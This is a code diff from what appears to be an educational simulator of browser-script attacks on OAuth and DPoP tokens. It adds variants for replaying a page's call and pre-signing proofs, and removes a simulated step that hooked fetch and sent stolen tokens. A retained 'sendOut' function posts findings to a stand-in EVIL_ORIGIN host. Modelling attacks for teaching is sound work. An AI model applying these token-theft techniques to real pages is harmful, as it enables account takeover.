@@ -1,7 +1,6 @@
 /** What the attacker's script does in the page: it is loaded like any other, and can do whatever the page can. */
 import { EVIL_ORIGIN } from "@/lib/cast/attacked";
 import { CLIENT_ORIGIN } from "@/lib/cast/cast";
-import { inPhase } from "@/lib/cast/steps/in-phase";
 import type { AttackVariant, StepContext } from "@/lib/flow/define";
 import type { Move } from "@/lib/flow/move";
 import { formatPairs, type Pairs } from "@/lib/http/form";
@@ -9,14 +8,11 @@ import { get, post } from "@/lib/http/message";
 import { FINDS_PATH, SCRIPT_PATH } from "@/lib/parties/attacker/script-host";
 import { sourceChecks } from "@/lib/parties/browser/checks/scripts";
 import { fromPage } from "@/lib/parties/browser/script-call";
-import { proverOf } from "@/lib/parties/client/dpop";
-import { sessionOf } from "@/lib/parties/client/session";
 import { photosOf } from "@/lib/parties/client/tokens";
 import { guard } from "@/lib/parties/guard";
-import { levelOf } from "@/lib/vocabulary/settings";
 import { recall } from "@/lib/world/world";
-import { callFromPage, readableStores } from "./page";
-import { injectWords, proxyWords, takeWords } from "./words-script";
+import { callFromPage } from "./page";
+import { injectWords, proxyWords } from "./words-script";
 
 export const variants = [
 	{
@@ -28,6 +24,16 @@ export const variants = [
 		id: "refresh",
 		name: "takes the refresh token",
 		does: "The script takes the refresh token, and the attacker gets access tokens with it (RFC 10017 §5.2.1).",
+	},
+	{
+		id: "call",
+		name: "copies a call of the page",
+		does: "The script copies the next call of the page, with its proof where there is one, and the attacker repeats it (RFC 10017 §5.1.2).",
+	},
+	{
+		id: "ahead",
+		name: "has a proof made for later",
+		does: "Where calls need a proof, the script has the page's key sign one for later, when the page is closed (RFC 9449 §11.2).",
 	},
 	{
 		id: "silent",
@@ -88,54 +94,6 @@ export const runInPage: Move<Choice | "NOT_LOADED" | "NOTHING_RUNS"> = {
 export const sendOut = async (ctx: StepContext, fields: Pairs): Promise<void> => {
 	const request = fromPage(CLIENT_ORIGIN, post(`${EVIL_ORIGIN}${FINDS_PATH}`, formatPairs(fields)));
 	await ctx.send("user", request, { channel: "front", note: "sendOut", phase: "after" });
-};
-
-/** Nonces are no secrets of a page: with them, a proof by any key is as recent as one of the page's. */
-export function noncesIn(ctx: StepContext): Pairs {
-	const { dpop } = recall(ctx.world, "client", "client");
-	const prover = proverOf(ctx.at("attacker"));
-	if (!prover || !dpop || levelOf(ctx.settings, "storage") === "bff") return [];
-	Object.assign(prover.nonces, dpop.nonces);
-	return [...new Set(Object.values(dpop.nonces))].map((text) => ["dpop_nonce", text]);
-}
-
-/** In memory nothing lies about. What the page uses goes through functions that any script of it can replace (RFC 10017 §8.4). */
-async function hookCall(ctx: StepContext): Promise<Pairs> {
-	ctx.work("user", { note: "hook" }, () => ({ result: undefined, facts: [{ name: "fetch", text: "replaced" }] }));
-	ctx.wait(20);
-	await callFromPage(inPhase(ctx, "use"), "again");
-	return [["access_token", sessionOf(ctx.at("client")).accessToken ?? ""]];
-}
-
-/** What the script finds at a look, or has to wait for. */
-async function findTokens(ctx: StepContext): Promise<Pairs> {
-	const found = readableStores(ctx);
-	ctx.work("user", { note: "look" }, () => ({ result: undefined, facts: found }));
-	if (levelOf(ctx.settings, "storage") === "memory") return ctx.settings.variant === "refresh" ? [] : hookCall(ctx);
-	return found.flatMap(({ name, text }) => (name.endsWith("_token") ? [[name, text] as const] : []));
-}
-
-export const takeTokens: Move<"TOKEN_SENT" | "REFRESH_SENT" | "NOTHING"> = {
-	phase: "after",
-	actor: "attacker",
-	does: "receives tokens",
-	text: "The script looks for tokens, and sends what it finds to the attacker.",
-	events: {
-		TOKEN_SENT: "The attacker has the page's access token.",
-		REFRESH_SENT: "The attacker has the page's refresh token.",
-		NOTHING: "No token that the attacker wants reaches it.",
-	},
-	step: {
-		kind: "run",
-		run: async (ctx) => {
-			const tokens = await findTokens(ctx);
-			if (tokens.length > 0) await sendOut(ctx, [...tokens, ...noncesIn(ctx)]);
-			const { accessToken, refreshToken } = recall(ctx.world, "attacker", "attacker");
-			if (ctx.settings.variant === "refresh") return { type: refreshToken === undefined ? "NOTHING" : "REFRESH_SENT" };
-			return { type: accessToken === undefined ? "NOTHING" : "TOKEN_SENT" };
-		},
-	},
-	words: takeWords,
 };
 
 /** The call of the page, made once more by another script of the page. */
